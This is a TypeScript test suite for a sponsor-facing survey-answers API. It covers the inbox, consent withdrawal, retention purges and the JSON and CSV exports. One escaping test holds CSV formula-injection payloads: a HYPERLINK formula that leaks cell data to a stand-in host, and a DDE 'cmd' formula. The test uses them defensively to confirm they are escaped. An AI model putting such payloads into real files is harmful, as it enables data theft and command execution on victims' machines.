import { randomUUID } from "node:crypto";
import { beforeAll, beforeEach, describe, expect, test } from "vitest";
import { purgeExpiredAnswers } from "../../../src/core/sponsorship/answer/index.ts";
import { encryptAnswers } from "../../../src/core/sponsorship/task/index.ts";
import type { Respondent } from "../../support/answers.ts";
import { createRespondent, withdraw } from "../../support/answers.ts";
import { atOnce } from "../../support/at-once.ts";
import type { Transport } from "../../support/call.ts";
import { expectRefused, expectSuccess, TRANSPORTS } from "../../support/call.ts";
import type { SponsorWithKey } from "../../support/caller.ts";
import { parseCsv } from "../../support/csv.ts";
import { eventually } from "../../support/eventually.ts";
import type { Answer } from "../../support/server.ts";
import { useWorld } from "../../support/use-world.ts";

const TASK = {
  type: "object",
  properties: {
    score: { type: "integer", minimum: -5, maximum: 5 },
    comment: { type: "string", maxLength: 200 },
    topics: { type: "array", items: { type: "string", maxLength: 20 }, maxItems: 5 },
    place: {
      type: "object",
      properties: { region: { type: "string", maxLength: 50, "x-data-type": "region" } },
      additionalProperties: false,
    },
    answer_id: { type: "string", maxLength: 20 },
    email: { type: "string", format: "email", "x-data-type": "email" },
  },
  required: ["score"],
  additionalProperties: false,
};

const UUID = /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/;
const DAY_MS = 86_400_000;

const world = useWorld({ upstreamFor: "all tests" });
let acme: SponsorWithKey;
let service: string;
let campaignId: string;
let ada: Respondent;
let bob: Respondent;

const campaign = (changes: Record<string, unknown> = {}): Promise<string> =>
  world.createCampaign(acme, [service], { fundCents: 0, task_schema: TASK, ...changes });

beforeAll(async () => {
  acme = await world.createSponsor();
  service = await world.registerService(acme.key, "free", { price_cents: 0 });
});
beforeEach(async () => {
  [campaignId, ada, bob] = await Promise.all([campaign(), createRespondent(world), createRespondent(world)]);
});

const list = (input: object = {}, key = acme.key, transport: Transport = "rest"): Promise<Answer> =>
  world.call("sponsor.listAnswers", { campaign_id: campaignId, ...input }, key, transport);

const inbox = async (): Promise<Record<string, unknown>[]> => expectSuccess(await list()).answers;

/** The file itself, without an envelope, as a browser saves it. */
const download = (
  format?: string,
  options: { method?: string; headers?: Record<string, string> } = {},
  id = campaignId,
): Promise<Response> =>
  fetch(
    `${world.url}/sponsor/campaigns/${id}/answers/export${format === undefined ? "" : `?format=${format}`}`,
    { ...options, headers: { authorization: `Bearer ${acme.key}`, ...options.headers } },
  );

const text = async (format: string): Promise<string> => (await download(format)).text();

const run = ({ token }: Respondent): Promise<Answer> =>
  world.run(token, service, { campaign_id: campaignId, input: {} });

/** Moves an answer some days into the past. */
const backdate = (id: string, days: number) =>
  world.db.taskCompletion.update({
    where: { id },
    data: { createdAt: new Date(Date.now() - days * DAY_MS) },
  });

describe("a sponsor's inbox", () => {
  test.each(TRANSPORTS)(
    "the inbox shows the answers with their permissions, newest first, page by page, over %s",
    async (transport) => {
      const first = await ada.answer(campaignId, { score: 5, place: { region: "Minho" } });
      const second = await bob.answer(
        campaignId,
        { score: 1, email: "bob@example.com" },
        { contact_permission: true },
      );
      const data = expectSuccess(await list({}, acme.key, transport));
      expect(data).toEqual({
        answers: [
          {
            answer_id: second,
            respondent_id: expect.stringMatching(/^[0-9a-f]{32}$/),
            task_data: { score: 1, email: "bob@example.com" },
            data_types: ["email"],
            sources: { "/score": "agent", "/email": "agent" },
            contact_permitted: true,
            state: "open",
            judge_until: expect.any(String),
            consent: { given_at: expect.any(String), granted_via: "agent", purpose: "One question" },
            submitted_at: expect.any(String),
            retained_until: expect.any(String),
          },
          expect.objectContaining({
            answer_id: first,
            task_data: { score: 5, place: { region: "Minho" } },
            data_types: ["region"],
            contact_permitted: false,
          }),
        ],
        total_count: 2,
        offset: 0,
        limit: 50,
      });
      const [latest] = data.answers as { submitted_at: string; retained_until: string }[];
      const kept = Date.parse(latest?.retained_until ?? "") - Date.parse(latest?.submitted_at ?? "");
      expect(kept).toBe(365 * DAY_MS);
      expect(expectSuccess(await list({ offset: 1, limit: 1 }, acme.key, transport))).toEqual({
        answers: [data.answers[1]],
        total_count: 2,
        offset: 1,
        limit: 1,
      });
    },
  );

  test("the inbox and the exports identify nobody beyond their answers", async () => {
    await ada.answer(campaignId, { score: 5 });
    const user = await world.db.user.findUniqueOrThrow({ where: { id: ada.grant.user_id } });
    const consents = await world.db.consent.findMany({ where: { userId: ada.grant.user_id } });
    const everything = [JSON.stringify(await inbox()), await text("csv"), await text("json")].join("\n");
    const { subject, agent_id, grant_id } = ada.grant;
    const sessions = consents.map(({ agentSessionId }) => agentSessionId ?? "");
    for (const identifier of [user.id, user.email, subject, agent_id, grant_id, ...sessions])
      expect(everything).not.toContain(identifier);
  });

  test("a respondent has the same id in all answers of one campaign, and another id in another campaign", async () => {
    await ada.answer(campaignId);
    await bob.answer(campaignId);
    const [bobs, adas] = (await inbox()).map(({ respondent_id }) => respondent_id);
    expect(adas).not.toBe(bobs);
    await withdraw(world, ada, campaignId);
    await ada.answer(campaignId);
    expect((await inbox())[0]).toMatchObject({ respondent_id: adas });
    const other = await campaign();
    await ada.answer(other);
    const elsewhere = expectSuccess(await list({ campaign_id: other })).answers;
    expect(elsewhere[0].respondent_id).not.toBe(adas);
  });

  test.each(TRANSPORTS)(
    "an answer of another sponsor's or an unknown campaign is not found, over %s",
    async (transport) => {
      await ada.answer(campaignId);
      const other = await world.createSponsor("Other");
      for (const campaign_id of [campaignId, randomUUID(), "no-id"]) {
        for (const name of ["sponsor.listAnswers", "sponsor.exportAnswers"])
          expectRefused(await world.call(name, { campaign_id }, other.key, transport), 404, "not_found");
      }
    },
  );

  test("the inbox needs a sponsor's key", async () => {
    expectRefused(await list({}, ada.token), 401, "unauthorized");
    expectRefused(await list({}, ada.grant.agent_key), 401, "unauthorized");
  });

  test.each([{ limit: 51 }, { offset: -1 }, { format: "csv" }])("the inbox refuses %j", async (wrong) => {
    expectRefused(await list(wrong), 400, "validation_error");
  });
});

describe("a withdrawn consent", () => {
  test.each(["data_sharing", "retention"] as const)(
    "a withdrawn consent to %s removes the answer everywhere and ends the completion, until the task is done anew",
    async (type) => {
      const id = await ada.answer(campaignId, { score: 5, comment: "take me back" });
      await bob.answer(campaignId, { score: 1 });
      expectSuccess(await run(ada));

      await withdraw(world, ada, campaignId, type);
      expect(await inbox()).toMatchObject([{ task_data: { score: 1 } }]);
      expect(expectSuccess(await list())).toMatchObject({ total_count: 1 });
      for (const format of ["json", "csv"]) {
        expect(await text(format)).not.toContain("take me back");
        expect(await text(format)).not.toContain(id);
      }
      const row = await world.db.taskCompletion.findUniqueOrThrow({ where: { id } });
      expect(row).toMatchObject({ details: null, withdrawnAt: expect.any(Date) });

      expectRefused(await run(ada), 412, "task_required");
      expectSuccess(await run(bob));
      const figures = expectSuccess(
        await world.call("sponsor.getCampaign", { campaign_id: campaignId }, acme.key),
      );
      expect(figures).toMatchObject({
        completions: 1,
        figures: { completions: { standing: 1, withdrawn: 1 } },
      });

      const again = await ada.answer(campaignId, { score: 3 });
      expect(again).not.toBe(id);
      expectSuccess(await run(ada));
      expect(await inbox()).toMatchObject([
        { answer_id: again, contact_permitted: false },
        { task_data: { score: 1 } },
      ]);
    },
  );

  test("a withdrawn consent to contact removes only the permission to contact", async () => {
    await ada.answer(campaignId, { score: 5 }, { contact_permission: true });
    expect(await inbox()).toMatchObject([{ contact_permitted: true }]);
    await withdraw(world, ada, campaignId, "contact");
    expect(await inbox()).toMatchObject([{ contact_permitted: false, task_data: { score: 5 } }]);
    expectSuccess(await run(ada));
  });

  test("the consents of an earlier completion don't apply to a later one", async () => {
    await ada.answer(campaignId, { score: 5 }, { contact_permission: true });
    await withdraw(world, ada, campaignId);
    await ada.answer(campaignId, { score: 3 });
    expect(await inbox()).toMatchObject([{ task_data: { score: 3 }, contact_permitted: false }]);
  });
});

describe("retention", () => {
  test("an answer past its retention is hidden and then deleted, and the completion still counts", async () => {
    campaignId = await campaign({ retention_days: 10 });
    const [old, young] = [await ada.answer(campaignId), await bob.answer(campaignId)];
    await backdate(old, 10);
    await backdate(young, 9.99);

    expect(await inbox()).toMatchObject([{ answer_id: young }]);
    expect(expectSuccess(await list())).toMatchObject({ total_count: 1 });
    expect(await text("csv")).not.toContain(old);

    const kept = () => world.db.taskCompletion.count({ where: { campaignId, details: { not: null } } });
    expect(await kept()).toBe(2);
    expect(await purgeExpiredAnswers(world.server.deps)).toBe(1);
    expect(await kept()).toBe(1);
    expect(await purgeExpiredAnswers(world.server.deps)).toBe(0);
    expect(await inbox()).toMatchObject([{ answer_id: young }]);
    expectSuccess(await run(ada));
    expect(await world.db.taskCompletion.findUnique({ where: { id: old } })).toMatchObject({
      details: null,
      withdrawnAt: null,
    });
  });

  test("a server that starts deletes the answers past their retention", async () => {
    campaignId = await campaign({ retention_days: 1 });
    const id = await ada.answer(campaignId);
    await backdate(id, 2);
    const replica = await world.startReplica();
    await eventually(async () => {
      const row = await world.db.taskCompletion.findUnique({ where: { id } });
      expect(row?.details).toBeNull();
    });
    await replica.stop();
  });

  test("three purges at once delete each of 1,200 answers once", async () => {
    campaignId = await campaign({ retention_days: 1 });
    await world.db.$executeRaw`
      INSERT INTO task_completions (campaign_id, user_id, task_name, details, data_types, created_at)
      SELECT ${campaignId}::uuid, gen_random_uuid(), 'many', '\\x00', '{}', now() - interval '3 days' FROM generate_series(1, 1200)`;
    const purged = await atOnce(3, () => purgeExpiredAnswers(world.server.deps));
    expect(purged.reduce((sum, count) => sum + count, 0)).toBe(1_200);
  });
});

/** Writes answers of unknown users straight to the database. Returns their ids, oldest first. */
async function insertAnswers(count: number): Promise<string[]> {
  const { db, cipher } = world.server.deps;
  const act = { campaignId, dataTypes: [] };
  const rows = Array.from({ length: count }, (_, n) => {
    const id = randomUUID();
    const details = encryptAnswers(cipher, id, { score: n % 5 });
    const createdAt = new Date(Date.now() - count + n);
    return { ...act, id, userId: randomUUID(), taskName: "many", details, createdAt };
  });
  await db.taskCompletion.createMany({ data: rows });
  const consent = { ...act, consentType: "data_sharing", granted: true, purpose: "many" };
  await db.consent.createMany({
    data: rows.map(({ id, userId }) => ({ ...consent, userId, completionId: id })),
  });
  return rows.map(({ id }) => id);
}

describe("an export as JSON", () => {
  test("an export as JSON is the inbox, oldest first, as a file without an envelope", async () => {
    await ada.answer(campaignId, { score: 5, place: { region: "Trás-os-Montes" } });
    await bob.answer(campaignId, { score: -1 });
    const response = await download();
    expect(response.status).toBe(200);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      "content-type": "application/json; charset=utf-8",
      "content-disposition": `attachment; filename="answers-${campaignId}.json"`,
      "cache-control": "no-store",
      "x-request-id": expect.stringMatching(UUID),
      "x-content-type-options": "nosniff",
    });
    expect(await response.json()).toEqual((await inbox()).toReversed());
  });

  test("an export of 250 answers holds each of them once, in order", async () => {
    const ids = await insertAnswers(250);
    const exported = (await (await download("json")).json()) as { answer_id: string }[];
    expect(exported.map(({ answer_id }) => answer_id)).toEqual(ids);
    expect((await text("csv")).trimEnd().split("\r\n")).toHaveLength(251);
  });
});

describe("an export as CSV", () => {
  const HEADER = ["answer_id", "respondent_id", "submitted_at", "retained_until", "contact_permitted"];

  test("an export as CSV has a column for each field of the task, with nested values as JSON", async () => {
    const comment = 'She said "good", then\r\nleft; ünïcödé 😀';
    const topics = ["sun", "rain, heavy"];
    const task_data = { score: -3, comment, topics, place: { region: "Minho" }, answer_id: "mine" };
    await ada.answer(campaignId, task_data, { contact_permission: true });
    await bob.answer(campaignId, { score: 2 });

    const response = await download("csv");
    expect(Object.fromEntries(response.headers)).toMatchObject({
      "content-type": "text/csv; charset=utf-8; header=present",
      "content-disposition": `attachment; filename="answers-${campaignId}.csv"`,
    });
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(bytes.subarray(0, 3)).toEqual(Buffer.of(0xef, 0xbb, 0xbf)); // the byte order mark, for Excel
    const csv = bytes.subarray(3).toString("utf8");
    const [header, first, second, ...more] = parseCsv(csv);
    expect(more).toEqual([]);
    const [bobs, adas] = await inbox();
    const about = (answer?: Record<string, unknown>) => HEADER.map((name) => String(answer?.[name]));
    const consentColumns = ["answer_state", "consented_at", "consented_via"];
    const columns = [...(header ?? []).slice(HEADER.length + 4)];
    expect(header).toEqual([...HEADER, "data_types", ...consentColumns, ...columns]);
    expect([...columns].sort()).toEqual([
      "comment",
      "email",
      "place",
      "score",
      "task_data.answer_id",
      "topics",
    ]);
    const cells = (record?: string[]) =>
      Object.fromEntries(columns.map((name, index) => [name, record?.[HEADER.length + 4 + index]]));
    expect(first?.slice(0, HEADER.length + 1)).toEqual([...about(adas), "region"]);
    expect(cells(first)).toEqual({
      score: "-3",
      comment,
      topics: JSON.stringify(topics),
      place: '{"region":"Minho"}',
      "task_data.answer_id": "mine",
      email: "",
    });
    expect(second?.slice(0, HEADER.length + 1)).toEqual([...about(bobs), ""]);
    expect(cells(second)).toMatchObject({ score: "2", comment: "", topics: "" });
    expect(csv.endsWith("\r\n")).toBe(true);
  });

  test("an answer that looks like a formula is escaped in CSV, and unchanged in JSON", async () => {
    const formulas = ['=HYPERLINK("https://evil.example?"&A1,"click")', "-2+3+cmd|' /C calc'!A0"];
    await ada.answer(campaignId, { score: 1, comment: formulas[0] });
    await bob.answer(campaignId, { score: 1, comment: formulas[1] });
    const [header = [], ...records] = parseCsv(await text("csv"));
    const column = header.indexOf("comment");
    expect(records.map((record) => record[column])).toEqual(formulas.map((formula) => `'${formula}`));
    const exported = (await (await download("json")).json()) as { task_data: { comment: string } }[];
    expect(exported.map(({ task_data }) => task_data.comment)).toEqual(formulas);
  });

  test("an export as CSV without answers is its header", async () => {
    expect(parseCsv(await text("csv"))).toHaveLength(1);
  });
});

describe("an export", () => {
  /** Makes an answer impossible to decrypt. */
  const spoil = (id: string | undefined) =>
    world.db.taskCompletion.update({ where: { id: id ?? "" }, data: { details: Buffer.alloc(60) } });

  test("an export over tRPC has the same text in the envelope", async () => {
    await ada.answer(campaignId, { score: 5 });
    for (const format of ["json", "csv"]) {
      const input = { campaign_id: campaignId, format };
      const data = expectSuccess(await world.call("sponsor.exportAnswers", input, acme.key, "trpc"));
      expect(data).toEqual({
        filename: `answers-${campaignId}.${format}`,
        content_type: (await download(format)).headers.get("content-type"),
        content: (format === "csv" ? "\ufeff" : "") + (await text(format)), // `fetch` removes the mark
      });
    }
  });

  test.each<[string, () => Promise<Response>, number, string]>([
    ["an unknown format", () => download("xml"), 400, "validation_error"],
    ["an unknown parameter", () => download("csv&limit=3"), 400, "validation_error"],
    ["an unknown campaign", () => download("csv", {}, randomUUID()), 404, "not_found"],
    [
      "an unknown key",
      () => download("csv", { headers: { authorization: "Bearer tf_sk_unknown" } }),
      401,
      "unauthorized",
    ],
    ["another method", () => download("csv", { method: "POST" }), 405, "method_not_allowed"],
  ])("an export with %s is refused in the envelope, not as a file", async (_what, ask, status, code) => {
    const response = await ask();
    expect(response.status).toBe(status);
    expect(response.headers.get("content-disposition")).toBeNull();
    expect(await response.json()).toMatchObject({ status: "error", error_code: code });
  });

  test("a HEAD request for an export is answered without the file", async () => {
    const response = await download("csv", { method: "HEAD" });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toContain("attachment");
    expect(await response.text()).toBe("");
  });

  test("an export that fails in the middle breaks the connection, so that a part isn't taken for all", async () => {
    const ids = await insertAnswers(150);
    await spoil(ids[140]);
    const response = await download("json");
    expect(response.status).toBe(200);
    await expect(response.text()).rejects.toThrow();
  });

  test("an export that fails at its start is refused", async () => {
    const ids = await insertAnswers(150);
    await spoil(ids[3]);
    const refused = await download("json");
    expect(refused.status).toBe(500);
    expect(await refused.json()).toMatchObject({ error_code: "internal_error" });
  });

  test("after an export whose reader left, the server still answers", async () => {
    await insertAnswers(300);
    const response = await download("json");
    await response.body?.cancel();
    expectSuccess(await list());
  });
});
